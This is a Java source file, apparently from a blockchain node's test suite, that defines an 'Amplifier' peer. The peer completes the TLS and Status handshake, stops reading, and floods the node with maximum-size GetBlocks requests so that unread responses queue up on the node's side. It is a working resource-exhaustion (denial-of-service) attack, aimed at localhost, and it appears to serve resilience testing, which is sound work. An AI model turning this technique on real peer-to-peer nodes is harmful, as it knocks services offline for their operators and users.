package org.peerchain.testnet.attack;

import io.netty.bootstrap.Bootstrap;
import io.netty.buffer.Unpooled;
import io.netty.channel.Channel;
import io.netty.channel.ChannelHandlerContext;
import io.netty.channel.ChannelInboundHandlerAdapter;
import io.netty.channel.ChannelInitializer;
import io.netty.channel.nio.NioEventLoopGroup;
import io.netty.channel.socket.SocketChannel;
import io.netty.channel.socket.nio.NioSocketChannel;
import io.netty.handler.ssl.SslContext;
import io.netty.handler.ssl.SslContextBuilder;
import io.netty.handler.ssl.SslHandler;
import io.netty.handler.ssl.SslProvider;
import io.netty.handler.ssl.util.InsecureTrustManagerFactory;
import io.netty.util.ReferenceCountUtil;
import java.util.concurrent.TimeUnit;
import java.util.function.LongSupplier;
import javax.net.ssl.SSLException;
import org.peerchain.core.types.Hash;
import org.peerchain.p2p.P2pConfig;
import org.peerchain.p2p.protocol.GetBlocks;
import org.peerchain.p2p.protocol.MessageCodec;
import org.peerchain.p2p.protocol.ProtocolLimits;
import org.peerchain.p2p.protocol.Status;
import org.peerchain.p2p.transport.NodeCertificate;

/**
 * A peer that completes TLS and the Status exchange, then stops reading and asks for the largest
 * block ranges the protocol allows, over and over: everything the node answers queues on its side.
 */
final class Amplifier implements AutoCloseable {
  private final NioEventLoopGroup group = new NioEventLoopGroup(1);
  private final Channel channel;
  private long nextRequest;

  Amplifier(int port, long chainId, Hash genesisHash) throws InterruptedException, SSLException {
    NodeCertificate identity = NodeCertificate.create(ThrowawayPeer.freshKey());
    SslContext ssl = SslContextBuilder.forClient().sslProvider(SslProvider.JDK).protocols("TLSv1.3")
        .keyManager(identity.privateKey(), identity.certificate())
        .trustManager(InsecureTrustManagerFactory.INSTANCE).endpointIdentificationAlgorithm(null).build();
    channel = new Bootstrap().group(group).channel(NioSocketChannel.class)
        .handler(new ChannelInitializer<SocketChannel>() {
          @Override
          protected void initChannel(SocketChannel ch) {
            ch.pipeline().addLast(ssl.newHandler(ch.alloc(), "127.0.0.1", port), new ChannelInboundHandlerAdapter() {
              @Override
              public void channelRead(ChannelHandlerContext ctx, Object msg) {
                ReferenceCountUtil.release(msg);
              }

              @Override
              public void exceptionCaught(ChannelHandlerContext ctx, Throwable cause) {
                ctx.close();
              }
            });
          }
        })
        .connect("127.0.0.1", port).sync().channel();
    channel.pipeline().get(SslHandler.class).handshakeFuture().await(5, TimeUnit.SECONDS);
    channel.writeAndFlush(Unpooled.wrappedBuffer(MessageCodec.encodeFrame(
        new Status(P2pConfig.PROTOCOL_VERSION, chainId, genesisHash, 0, genesisHash, 0)).toArray())).await(5, TimeUnit.SECONDS);
    Thread.sleep(200);
    channel.config().setAutoRead(false);
  }

  /**
   * Sends up to {@code count} requests, each for the largest range ending at the chain's head (the
   * fullest blocks), while the connection lasts, until {@code deadlineNanos}; returns how many went out.
   */
  int flood(int count, long deadlineNanos, LongSupplier head) {
    int sent = 0;
    while (sent < count && channel.isActive() && System.nanoTime() < deadlineNanos) {
      if (!channel.isWritable()) {
        channel.flush();
        sleep();
        continue;
      }
      long from = Math.max(1, head.getAsLong() - ProtocolLimits.MAX_BLOCKS_PER_RESPONSE + 1);
      GetBlocks request = new GetBlocks(nextRequest++, from, ProtocolLimits.MAX_BLOCKS_PER_RESPONSE);
      channel.write(Unpooled.wrappedBuffer(MessageCodec.encodeFrame(request).toArray()));
      sent++;
    }
    channel.flush();
    return sent;
  }

  boolean isOpen() {
    return channel.isActive();
  }

  private static void sleep() {
    try {
      Thread.sleep(5);
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
    }
  }

  @Override
  public void close() {
    channel.close().awaitUninterruptibly(2, TimeUnit.SECONDS);
    group.shutdownGracefully(0, 1, TimeUnit.SECONDS).awaitUninterruptibly(3, TimeUnit.SECONDS);
  }
}
